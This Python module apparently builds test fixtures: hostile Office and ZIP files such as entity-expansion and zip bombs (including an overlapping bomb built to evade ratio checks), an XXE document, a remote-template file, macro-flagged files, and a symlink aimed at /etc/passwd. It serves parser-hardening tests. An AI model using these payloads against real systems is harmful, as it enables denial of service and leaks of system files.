"""Archives and Word files made to hurt whoever opens them; each is made on the spot."""

import io
import struct
import zipfile
import zlib
from hashlib import sha256

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_BODY = f"<w:document {_W}><w:body><w:p><w:r><w:t>Nội dung</w:t></w:r></w:p></w:body></w:document>"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MIB = 1024 * 1024


def archive(parts: dict[str, bytes | str]) -> bytes:
    """A ZIP archive with these parts, packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def word(document: str = _BODY, types: str = TYPES, **more: bytes | str) -> bytes:
    """A Word file; ``more`` parts are named with ``__`` for ``/`` and end in .xml if unsaid."""
    parts: dict[str, bytes | str] = {"[Content_Types].xml": types, "word/document.xml": document}
    for name, content in more.items():
        path = name.replace("__", "/")
        parts[path if "." in path else f"{path}.xml"] = content
    return archive(parts)


def text_document(inner: str) -> str:
    """A document part with ``inner`` for its body."""
    return f"<w:document {_W}><w:body>{inner}</w:body></w:document>"


def sheet(**more: bytes | str) -> bytes:
    """An Excel file."""
    parts: dict[str, bytes | str] = {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>"}
    return archive(parts | {name.replace("__", "/"): content for name, content in more.items()})


def _doctype(declared: str, used: str) -> str:
    body = _BODY.replace("Nội dung", used)
    return f'<?xml version="1.0"?><!DOCTYPE w:document [{declared}]>{body}'


def billion_laughs() -> bytes:
    """Nine levels of ten entities each."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return word(_doctype(f'<!ENTITY a0 "ha">{levels}', "&a9;"))


def quadratic_blowup() -> bytes:
    """One long entity, used many times."""
    return word(_doctype(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 20_000))


def external_entity(address: str) -> bytes:
    """An entity that a careless reader fetches."""
    return word(_doctype(f'<!ENTITY a SYSTEM "{address}">', "&a;"))


def late_doctype() -> bytes:
    """A document type behind more blanks than a look at the beginning shows."""
    body = _BODY.replace("Nội dung", "&a;")
    return word(f'<?xml version="1.0"?>{" " * 70_000}<!DOCTYPE w [<!ENTITY a "b">]>{body}')


def flat_bomb() -> bytes:
    """300 MiB of zeros in one part."""
    out = io.BytesIO(word())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
        made.open("word/media/zeros.bin", "w") as part,
    ):
        for _ in range(300):
            part.write(b"\x00" * _MIB)
    return out.getvalue()


def bomb_below_the_ratio() -> bytes:
    """190 MiB, a hundredth of it noise: no ratio gives it away."""
    noise = b"".join(sha256(b"%d" % n).digest() for n in range(320))
    out = io.BytesIO(word())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
        made.open("word/media/text.bin", "w") as part,
    ):
        for _ in range(190):
            part.write(noise + b"\x00" * (_MIB - len(noise)))
    return out.getvalue()


def nested_bomb() -> bytes:
    """Archives in archives, each of zeros."""
    inner = archive({f"{n}.bin": b"\x00" * _MIB for n in range(9)})
    for level in range(4):
        inner = archive({f"{level}-{n}.zip": inner for n in range(9)})
    return word(word__embeddings__tep=inner)


def overlapping_bomb() -> bytes:
    """Many entries that share one packed piece, as in the “better ZIP bomb”."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = b"\x00" * (9 * _MIB)
    packed = packer.compress(zeros) + packer.flush()
    sound = io.BytesIO()
    with zipfile.ZipFile(sound, "w") as made:
        made.writestr("[Content_Types].xml", TYPES)
        made.writestr("word/document.xml", _BODY)
        begin = made.start_dir
        count = len(made.infolist())
    whole = sound.getvalue()
    directory = whole[begin : whole.rindex(b"PK\x05\x06")]
    head = struct.pack(
        "<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(zeros), len(packed), len(zeros), 1, 0
    )
    piece = b"PK\x03\x04" + head + b"a" + packed
    for _ in range(20):
        row = struct.pack("<HH", 20, 20) + head[2:26] + struct.pack("<HHHII", 0, 0, 0, 0, begin)
        directory += b"PK\x01\x02" + row + b"a"
    end = struct.pack(
        "<HHHHIIH", 0, 0, count + 20, count + 20, len(directory), begin + len(piece), 0
    )
    return whole[:begin] + piece + directory + b"PK\x05\x06" + end


def with_macro() -> bytes:
    """A Word file with a macro project."""
    return word(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_template() -> bytes:
    """A template that says of itself that macros are enabled."""
    kind = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    return word(types=TYPES.replace("/>", f'><Override ContentType="{kind}"/></Types>'))


def with_remote_template(target: str) -> bytes:
    """A Word file that fetches its template when it is opened."""
    row = f'<Relationship Id="rId1" Type="{_OFFICE}/relationships/attachedTemplate"'
    rows = f'<Relationships xmlns="{_PACKAGE}/relationships">{row} Target="{target}"'
    return word(
        **{"word___rels__settings.xml.rels": f'{rows} TargetMode="External"/></Relationships>'}
    )


def with_symlink() -> bytes:
    """A part that points out of the archive."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as made:
        link = zipfile.ZipInfo("word/media/x.png")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "../../../etc/passwd")
    return out.getvalue()


def encrypted() -> bytes:
    """A ZIP whose parts say that they are encrypted."""
    made = bytearray(word())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


def many_entries() -> bytes:
    """Ten thousand parts."""
    return word(**{f"word__p{n}": "x" for n in range(10_000)})


def tall_tree() -> bytes:
    """Tables in tables, thirty thousand deep."""
    deep = "<w:tbl><w:tr><w:tc>" * 30_000 + "</w:tc></w:tr></w:tbl>" * 30_000
    return word(text_document(deep))


def endless_runs() -> bytes:
    """Half a million runs of one letter."""
    return word(text_document("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 250_000 + "</w:p>"))
